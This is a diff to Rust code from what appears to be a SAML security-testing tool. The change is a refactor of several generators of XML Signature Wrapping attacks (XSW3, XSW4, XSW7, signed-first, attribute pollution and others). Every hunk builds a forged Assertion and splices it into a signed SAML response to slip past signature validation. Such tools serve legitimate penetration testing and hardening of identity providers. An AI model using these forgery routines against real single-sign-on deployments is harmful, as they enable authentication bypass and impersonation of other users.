@@ -13,13 +13,13 @@ fn parse<'a>(f: &Forge<'a>) -> Result<Doc<'a>, Skip> {
 
 /// Identity edits inside the Assertion, in place.
 fn forge_in_place(p: &Parts) -> (crate::bytes::Edits, identity::Swap) {
-    identity::rewrite_edits(p.doc, p.assertion.range(), &identity::target_of)
+    identity::rewrite_edits(p.doc, p.assertion.range(), &identity::forger(p.doc))
 }
 
 fn id_edit(node: crate::bytes::Node, id: &str) -> Result<(std::ops::Range<usize>, String), Skip> {
     attr_value(node, "ID")
         .map(|r| (r, id.to_owned()))
-        .ok_or_else(|| Skip("the signed element has no ID".into()))
+        .ok_or_else(|| Skip::NotApplicable("the signed element has no ID".into()))
 }
 
 /// XSW1/XSW2: a forged Response root (new ID, forged Assertion); the original Response,
@@ -59,7 +59,7 @@ pub fn xsw3(f: &Forge) -> Result<Forged, Skip> {
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
     p.need_assertion_sig()?;
-    let (evil, swap) = p.forged_assertion(Some(&evil_id(p.assertion_id())));
+    let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
     forged(
         splice(doc.src, vec![insert(p.assertion.range().start, evil)]),
         swap,
@@ -71,7 +71,7 @@ pub fn xsw4(f: &Forge) -> Result<Forged, Skip> {
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
     p.need_assertion_sig()?;
-    let (evil, swap) = p.forged_assertion(Some(&evil_id(p.assertion_id())));
+    let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
     let at = evil.rfind("</").unwrap_or(evil.len());
     let wrapped = format!("{}{}{}", &evil[..at], doc.outer(p.assertion), &evil[at..]);
     forged(splice(doc.src, vec![(p.assertion.range(), wrapped)]), swap)
@@ -109,7 +109,7 @@ pub fn xsw7(f: &Forge) -> Result<Forged, Skip> {
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
     p.need_assertion_sig()?;
-    let (evil, swap) = p.forged_assertion(None);
+    let (evil, swap) = p.forged_assertion(None)?;
     let wrapper = format!("<Extensions>{evil}</Extensions>");
     forged(
         splice(doc.src, vec![insert(p.assertion.range().start, wrapper)]),
@@ -139,7 +139,7 @@ pub fn status_detail(f: &Forge) -> Result<Forged, Skip> {
     let p = Parts::of(&doc)?;
     let sig = p.need_assertion_sig()?;
     let status = child(p.root, PROTOCOL_NS, "Status")
-        .ok_or_else(|| Skip("the seed has no Status".into()))?;
+        .ok_or_else(|| Skip::NotApplicable("the seed has no Status".into()))?;
     let (mut edits, swap) = forge_in_place(&p);
     edits.push((sig.range(), String::new()));
     let detail = format!(
@@ -175,7 +175,7 @@ pub fn signed_first(f: &Forge) -> Result<Forged, Skip> {
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
     p.need_assertion_sig()?;
-    let (evil, swap) = p.forged_assertion(Some(&format!("{}_attack", p.assertion_id())));
+    let (evil, swap) = p.forged_assertion_with_id(&format!("{}_attack", p.assertion_id()))?;
     forged(
         splice(doc.src, vec![insert(p.assertion.range().end, evil)]),
         swap,
@@ -188,7 +188,7 @@ pub fn forged_first_same_id(f: &Forge) -> Result<Forged, Skip> {
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
     p.need_assertion_sig()?;
-    let (evil, swap) = p.forged_assertion(None);
+    let (evil, swap) = p.forged_assertion(None)?;
     forged(
         splice(doc.src, vec![insert(p.assertion.range().start, evil)]),
         swap,
@@ -211,7 +211,7 @@ pub fn roots_donor_first(f: &Forge) -> Result<Forged, Skip> {
     let donor = embeddable(f.donor()?);
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
-    let (evil, swap) = p.forged_assertion(None);
+    let (evil, swap) = p.forged_assertion(None)?;
     let second = format!(
         "<samlp:Response xmlns:samlp=\"{PROTOCOL_NS}\" ID=\"{}\" Version=\"2.0\"><samlp:Status><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>{evil}</samlp:Response>",
         evil_id(p.root.attribute("ID").unwrap_or("_r"))
@@ -241,16 +241,11 @@ pub fn attribute_pollution(f: &Forge) -> Result<Forged, Skip> {
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
     p.need_assertion_sig()?;
-    let (evil, swap) = p.forged_assertion(None);
-    let id = p.assertion_id();
-    let polluted = evil.replacen(
-        &format!("ID=\"{id}\""),
-        &format!("saml:ID=\"{id}\" xmlns:saml=\"{}\"", ASSERTION_NS),
-        1,
+    let polluted_id = format!(
+        "saml:ID=\"{}\" xmlns:saml=\"{ASSERTION_NS}\"",
+        p.assertion_id()
     );
-    if polluted == evil {
-        return Err(Skip("the Assertion's ID attribute was not found".into()));
-    }
+    let (polluted, swap) = p.forged_assertion(Some(polluted_id))?;
     forged(
         splice(doc.src, vec![insert(p.assertion.range().start, polluted)]),
         swap,
